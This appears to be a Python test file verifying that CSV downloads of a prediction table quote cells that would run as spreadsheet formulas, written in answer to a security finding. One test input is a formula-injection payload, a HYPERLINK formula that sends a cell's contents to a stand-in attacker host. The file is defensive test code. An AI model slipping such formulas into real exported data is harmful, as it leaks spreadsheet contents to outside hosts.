"""CSV downloads cannot carry spreadsheet formulas (security probe s9, finding 8)."""

import io

import pandas as pd

from core.tables import spreadsheet_safe


def test_text_cells_that_would_run_as_formulas_are_quoted_and_numbers_are_not():
    from core.predict import predictions_table

    table = predictions_table([('=HYPERLINK("https://evil.example/?d="&B2,"open").jpg', "cannot read"),
                               ("+1 face.png", "x"), ("@sum.png", "x"), ("plain.jpg", "x")])
    table["confidence"] = [-0.5, 0.25, None, 1.0]
    text = spreadsheet_safe(table).to_csv(index=False)
    rows = pd.read_csv(io.StringIO(text), keep_default_na=False)
    assert rows["file"].tolist() == ["'=HYPERLINK(\"https://evil.example/?d=\"&B2,\"open\").jpg", "'+1 face.png",
                                     "'@sum.png", "plain.jpg"]
    assert rows["confidence"].astype(str).tolist()[:2] == ["-0.5", "0.25"]  # a negative number stays a number
    assert table["file"][0].startswith("=")  # the table shown in the page keeps the real name
